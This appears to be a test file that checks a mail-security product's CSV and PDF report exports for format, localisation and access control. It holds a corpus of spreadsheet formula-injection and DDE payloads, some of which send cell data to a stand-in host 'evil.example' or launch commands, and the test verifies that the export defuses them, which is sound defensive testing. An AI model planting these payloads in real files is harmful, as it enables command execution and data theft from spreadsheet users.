#!/usr/bin/python3
# 82-reports: /results/report.csv and /results/report.pdf.  The CSV: a
# download named with the date, UTF-8 with a BOM, strict RFC 4180, every
# detection with every field, times ISO 8601 with their offset, a corpus
# of formula and escape payloads (SECURITY.md R-W-5, T11) defused and
# read back; the PDF: A4, qpdf --check clean, its text read back with
# pdftotext in English and Japanese, its first page rendered with
# pdftoppm (saved under $SHINDAN_ARTIFACTS).  Both need the session,
# wait for the scan's end, and never reach another account's results.
import csv, io, os, subprocess, sys, tempfile
sys.path.insert(0, os.path.join(os.environ["SHINDAN_SRC"], "tests/lib"))
sys.path.insert(0, os.path.join(os.environ["SHINDAN_SRC"], "report/t"))
from shindan_test import *
import fixture

t = Tap()
art = os.environ.get("SHINDAN_ARTIFACTS") or tempfile.mkdtemp()
os.makedirs(art, exist_ok=True)
b = Browser(source_ip=source_ip(82))
addr, code = new_account(b, "reports")
acct = fixture.account_id(addr)

# Formula and escape payloads: the classic ones, each trigger with many
# tails, and quoting and line-break cases: well over 200.
base = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1)", "\t=1", "=1+1", "=cmd|'/C powershell -ep bypass'!A1",
        '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "-1", "+1", "@x", '"quoted"', 'a,b,"c"', "line1\nline2", "semi;colon",
        "'already", "  =padded", "ok", "請求書 =SUM(A1)", "=\u202eevil", "\u202e=evil"]
tails = ["", "1", "A1", "SUM(A1:A9)", '"x"', ",", "\n", "\"", "日本語", "cmd|' /C calc'!A0"]
payloads = list(base)
for trig in "=+-@\t":
    for tail in tails:
        payloads.append(trig + tail)
        payloads.append(trig + tail + "," + tail)
        payloads.append(trig + '"' + tail + '"')
        payloads.append(trig + tail + "\n" + trig + tail)
t.ok(len(payloads) >= 200, "%d payloads" % len(payloads))

N = len(payloads) + 50
aid, mids = fixture.make(acct, N, subjects=payloads, names=list(reversed(payloads)))
expect = {}
# As JSON: subjects hold tabs and line breaks that psql's rows would split.
for row in json.loads(psql1("SELECT json_agg(json_build_array(id::text, subject, sender_name))"
                            " FROM detection WHERE assessment_id = :'a1'", aid)):
    expect[row[0]] = row
t.is_(len(expect), N, "the detections are in place")

r = b.get("/results/report.csv")
t.is_(r.status, 200, "the CSV: 200")
security_headers_ok(t, r, "the CSV")
t.like(r.header("Content-Type") or "", r"^text/csv; charset=utf-8$", "text/csv, UTF-8")
t.like(r.header("Content-Disposition") or "",
       r'^attachment; filename="shindan-detections-\d{4}-\d\d-\d\d\.csv"$', "an attachment named with the date")
t.like(r.header("Cache-Control") or "", "no-store", "not cached")
body = r.body
t.ok(body.startswith(b"\xef\xbb\xbf"), "starts with the UTF-8 BOM")
text = body[3:].decode("utf-8")
t.ok(text.endswith("\r\n"), "rows end with CRLF")

def strict_rows(s):
    """RFC 4180 with every cell quoted, as we write it: any stray byte
    outside the quotes is an error."""
    rows, i, n = [], 0, len(s)
    while i < n:
        row = []
        while True:
            if s[i] != '"':
                raise ValueError("unquoted cell at %d" % i)
            i += 1
            cell = []
            while True:
                j = s.index('"', i)
                cell.append(s[i:j])
                if j + 1 < n and s[j + 1] == '"':
                    cell.append('"')
                    i = j + 2
                    continue
                i = j + 1
                break
            row.append("".join(cell))
            if s.startswith("\r\n", i):
                i += 2
                break
            if s[i] != ",":
                raise ValueError("junk after a cell at %d" % i)
            i += 1
        rows.append(row)
    return rows

try:
    rows = strict_rows(text)
    t.ok(True, "the file parses as strict RFC 4180")
except Exception as e:
    rows = list(csv.reader(io.StringIO(text)))
    t.ok(False, "the file parses as strict RFC 4180: %s" % e)
t.is_(rows, list(csv.reader(io.StringIO(text, newline=""))), "and Python's csv module reads the same")
head = rows[0]
t.is_(head, ["id", "received_at", "mailbox", "sender_address", "sender_name", "recipients",
             "subject", "internet_message_id", "verdict", "score", "category", "severity",
             "rules", "evidence", "urls", "domains", "imitates", "attachment_names",
             "attachment_sha256", "web_link"], "every field has a column")
data = rows[1:]
t.is_(len(data), N, "one row per detection")
t.is_(sorted(x[0] for x in data), sorted(expect), "every detection, once")
t.ok(all(len(x) == len(head) for x in data), "every row has every cell")
TRIG = ("=", "+", "-", "@", "\t", "\r")
bad = [c for x in data for c in x if c.startswith(TRIG)]
t.is_(bad, [], "no cell starts with = + - @ tab or CR")

def undefuse(v, orig):
    return v[1:] if orig.startswith(TRIG) and v.startswith("'") else v

mism = []
for x in data:
    e = expect[x[0]]
    subj = e[1].replace("\u202e", "\ufffd")
    name = e[2].replace("\u202e", "\ufffd")
    if undefuse(x[6], subj) != subj or undefuse(x[4], name) != name:
        mism.append((x[0], x[6], subj))
t.is_(mism[:3], [], "every subject and sender name reads back (after the defusing apostrophe)")
t.ok(all(re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$", x[1]) for x in data),
     "times are ISO 8601 with their offset")
first = data[0]
t.like(first[2], r"^user\d@contoso\.example$", "the mailbox")
t.like(first[3], r"^sender\d+@evil\d\.example$", "the sender address")
t.like(first[7], r"^<m\d+@evil\.example>$", "the internet message id")
t.ok(first[8] in ("Threat", "Potential threat"), "the verdict")
t.ok(first[10] in ("Malware", "Phishing", "Suspicious URL", "Spoofing", "Impersonation",
                   "Risky attachment", "Spam"), "the category in words")
t.like(first[12], r"^\w+/(high|medium|low) rule\.", "the rules")
t.like(first[13], "Evidence for msg-", "the evidence")
t.like(first[14], r"^http://evil\d\.example/login\?id=\d+$", "the URL")
t.like(first[18] if first[18] else [x for x in data if x[18]][0][18], r"^[0-9a-f]{64}$",
       "attachment SHA-256")
withatt = [x for x in data if x[17]]
t.like(withatt[0][17], r"^invoice\d\.docm$", "attachment names")
two = [x for x in data if "\n" in x[12]]
t.ok(two and len(two[0][12].split("\n")) == 2 and "auth.spf_fail" in two[0][12],
     "several findings: one line each in the cell")
t.like(first[19], r"^https://outlook\.office365\.com/owa/", "the Outlook on the web link")
order = [x[0] for x in psql("SELECT id FROM detection WHERE assessment_id = :'a1'"
                            " ORDER BY sort_at DESC, id DESC", aid)]
t.is_([x[0] for x in data], order, "newest first")

r = b.get("/results/report.csv?lang=ja")
rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"), newline="")))
t.is_(rows[0][1], "受信日時", "Japanese column names")
t.like(rows[1][1], r"\+09:00$", "Japan time with its offset")
t.ok(rows[1][10] in ("マルウェア", "フィッシング", "不審な URL", "送信元の詐称", "なりすまし",
                     "危険な添付ファイル", "スパム"), "categories in Japanese")
t.like(rows[1][13], "の根拠", "the evidence in Japanese")
b.get("/results?lang=en")
r = b.request("HEAD", "/results/report.csv")
t.ok(r.status == 200 and r.body == b"", "HEAD: the headers only")

# --- PDF ---------------------------------------------------------------------
def pdf_checks(resp, lang, words):
    path = os.path.join(art, "82-report-%s.pdf" % lang)
    with open(path, "wb") as f:
        f.write(resp.body)
    t.is_(resp.status, 200, "the PDF (%s): 200" % lang)
    t.is_(resp.header("Content-Type"), "application/pdf", "application/pdf")
    t.like(resp.header("Content-Disposition") or "",
           r'^attachment; filename="shindan-report-\d{4}-\d\d-\d\d\.pdf"$', "named with the date")
    q = subprocess.run(["qpdf", "--check", path], capture_output=True, text=True)
    t.ok(q.returncode == 0 and "No syntax or stream encoding errors" in q.stdout,
         "qpdf --check is clean")
    info = subprocess.run(["pdfinfo", path], capture_output=True, text=True).stdout
    t.like(info, r"Page size:\s+595\.2\d* x 841\.8\d* pts \(A4\)", "A4 pages")
    fonts = subprocess.run(["pdffonts", path], capture_output=True, text=True).stdout
    t.like(fonts, r"NotoSansCJKjp-Regular\s+CID Type 0C\s+Identity-H\s+yes yes yes", "the CJK font, embedded")
    txt = subprocess.run(["pdftotext", "-layout", path, "-"], capture_output=True, text=True).stdout
    for w in words:
        t.like(txt, re.escape(w), "reads back: %s" % w)
    t.unlike(txt, "\u202e", "no bidi override in the text")
    t.unlike(txt, r"http://evil\d\.example/login", "the URLs found are defanged")
    png = os.path.join(art, "82-report-%s" % lang)
    subprocess.run(["pdftoppm", "-r", "50", "-png", "-f", "1", "-l", "1", path, png])
    pngs = [f for f in os.listdir(art) if f.startswith("82-report-%s-" % lang) and f.endswith(".png")]
    t.ok(pngs and os.path.getsize(os.path.join(art, pngs[0])) > 10000, "the first page renders")
    # The objects' dictionaries (streams left out): no key of a script,
    # a link, an action or an embedded file.
    j = subprocess.run(["qpdf", "--json", "--json-key=objects", path],
                       capture_output=True, text=True).stdout
    keys = set(re.findall(r'"(/[A-Za-z]+)"', j))
    t.is_(sorted(keys & {"/JavaScript", "/JS", "/URI", "/Launch", "/OpenAction", "/AA",
                          "/EmbeddedFile", "/SubmitForm", "/Annots"}), [],
          "no script, link, action or embedded file")
    return txt

txt = pdf_checks(b.get("/results/report.pdf"), "en",
                 ["Mail security assessment report", addr, "Detected mails by category", "Phishing",
                  "Risky attachment", "What to do next", "Top senders", "Top sender domains",
                  "Top URLs", "Top attachments", "Mailboxes not scanned", "nomail@contoso.example",
                  "Confidential", "Page 1", "hxxp://evil"])
t.like(txt, r"Threats\s+%d" % ((N + 1) // 2), "the threats total")
t.like(txt, r"Mails scanned\s+%s" % format(N * 7 + 100, ","), "the mails scanned")
t.unlike(txt, "Not listed here", "no note of more when every detection is listed")
txt = pdf_checks(b.get("/results/report.pdf?lang=ja"), "ja",
                 ["メールセキュリティ診断レポート", "カテゴリ別の検出メール数", "フィッシング",
                  "推奨される対応", "スキャンできなかったメールボックス", "ページ 1"])
b.get("/results?lang=en")

aid, mids = fixture.make(acct, 420)
r = b.get("/results/report.pdf")
path = os.path.join(art, "82-report-420.pdf")
with open(path, "wb") as f:
    f.write(r.body)
txt = subprocess.run(["pdftotext", path, "-"], capture_output=True, text=True).stdout
t.like(txt, r"Not listed here: 120 detected mails\. The CSV download lists every one", "the first 300, and how many more the CSV has")
t.is_(subprocess.run(["qpdf", "--check", path], capture_output=True).returncode, 0, "a long report is clean too")
n = len(list(csv.reader(io.StringIO(b.get("/results/report.csv").body[3:].decode(), newline="")))) - 1
t.is_(n, 420, "the CSV has all 420")

# --- who may download, and when ------------------------------------------------
anon = Browser(source_ip=source_ip(82, 1))
for p in ("/results/report.csv", "/results/report.pdf"):
    r = anon.get(p)
    t.ok(r.status == 303 and r.header("Location").endswith("/signin"), "%s needs a session" % p)
other = Browser(source_ip=source_ip(82, 2))
oaddr, _ = new_account(other, "thief")
for p in ("/results/report.csv", "/results/report.pdf",
          "/results/report.csv?assessment=%s" % aid, "/results/report.csv?id=%s" % aid):
    r = other.get(p)
    t.is_(r.status, 404, "another account gets no report: %s" % p)
    t.unlike(r.text, re.escape(addr), "and nothing of the owner's")
oacct = fixture.account_id(oaddr)
fixture.make(oacct, 2)
rows = list(csv.reader(io.StringIO(other.get("/results/report.csv").body[3:].decode(), newline="")))
t.is_(len(rows) - 1, 2, "another account's CSV has only its own two rows")
txt_other = other.get("/results/report.pdf").body
t.unlike(txt_other.decode("latin-1"), re.escape(addr), "and its PDF nothing of the first account")

psql("UPDATE assessment SET state = 'running', finished_at = NULL WHERE id = :'a1'", aid)
t.is_(b.get("/results/report.csv").status, 409, "while the scan runs the CSV waits: 409")
t.is_(b.get("/results/report.pdf").status, 409, "and the PDF")
# Leave nothing running for the runner of later tests to wrap up.
psql("DELETE FROM assessment WHERE account_id IN (:'a1', :'a2')", acct, oacct)
t.done()
